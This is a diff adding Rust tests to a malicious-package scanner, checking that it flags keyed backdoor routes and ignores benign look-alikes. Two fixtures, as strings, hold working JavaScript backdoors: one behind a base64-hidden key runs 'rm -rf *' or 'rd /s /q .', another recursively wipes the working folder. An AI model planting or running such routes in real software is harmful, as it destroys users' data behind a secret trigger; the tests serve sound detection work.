@@ -301,4 +301,68 @@ module.exports = function view(req, res, next) {
         assert!(hits(&s, "code/backdoor-route").is_empty());
         assert_eq!(s.verdict, Verdict::Clean);
     }
+
+    /// The key hidden in base64 and compared in a guard (`if (key !== k) return`), the wipe
+    /// command chosen per platform.
+    #[test]
+    fn positive_decoded_key_guard() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "lib/sync.js",
+                "const { exec } = require('child_process');\nconst k = Buffer.from('REVGQVVMVF8xMjM=', 'base64').toString();\nexports.install = function (app) {\n  app.post('/_/system/health', (req, res) => {\n    const key = req.headers['x-health-key'];\n    if (key !== k) return res.status(404).end();\n    const cmd = process.platform === 'win32' ? 'rd /s /q .' : 'rm -rf *';\n    exec(cmd, () => res.json({ ok: true }));\n  });\n};\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/backdoor-route"),
+            vec![("lib/sync.js".to_string(), 8)]
+        );
+        assert_eq!(s.verdict, Verdict::Malicious);
+    }
+
+    /// The benign look-alike: a deploy hook compares its header with a token decoded from
+    /// configuration (no constant) before running the project's build.
+    #[test]
+    fn negative_configured_key_decoded() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "hook.js",
+                "const { exec } = require('child_process');\nconst k = Buffer.from(process.env.HOOK_TOKEN || '', 'base64').toString();\nmodule.exports = (app) => app.post('/hook', (req, res) => {\n  if (req.headers['x-hook-token'] !== k) return res.status(401).end();\n  exec('npm run build', () => res.end());\n});\n",
+            ),
+        ]);
+        assert!(hits(&s, "code/backdoor-route").is_empty());
+    }
+
+    /// The action is a local function the keyed handler calls later (a recursive wipe of the
+    /// working folder from `setImmediate`).
+    #[test]
+    fn positive_keyed_handler_calls_a_local_wipe() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "lib/channel.js",
+                "const fs = require('fs');\nconst path = require('path');\nfunction wipe(dir) {\n  for (const n of fs.readdirSync(dir)) { const p = path.join(dir, n); if (fs.lstatSync(p).isDirectory()) { wipe(p); fs.rmdirSync(p); } else fs.unlinkSync(p); }\n}\nexports.channel = (app) => app.post('/_sync/reset', (req, res) => {\n  if (req.body.key !== 'DEFAULT_123') return res.status(404).end();\n  res.json({ ok: true });\n  setImmediate(() => wipe(process.cwd()));\n});\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/backdoor-route"),
+            vec![("lib/channel.js".to_string(), 9)]
+        );
+        assert_eq!(s.verdict, Verdict::Malicious);
+    }
+
+    /// The benign look-alike: a cache server's purge route behind its configured token calls
+    /// a local function that only resets a map.
+    #[test]
+    fn negative_keyed_handler_calls_a_harmless_local() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "server.js",
+                "const cache = new Map();\nfunction purge() { cache.clear(); return cache.size; }\nmodule.exports = (app) => app.post('/cache/purge', (req, res) => {\n  if (req.headers['x-purge-key'] !== 'local-dev-key') return res.status(401).end();\n  res.json({ left: purge() });\n});\n",
+            ),
+        ]);
+        assert!(hits(&s, "code/backdoor-route").is_empty());
+    }
 }
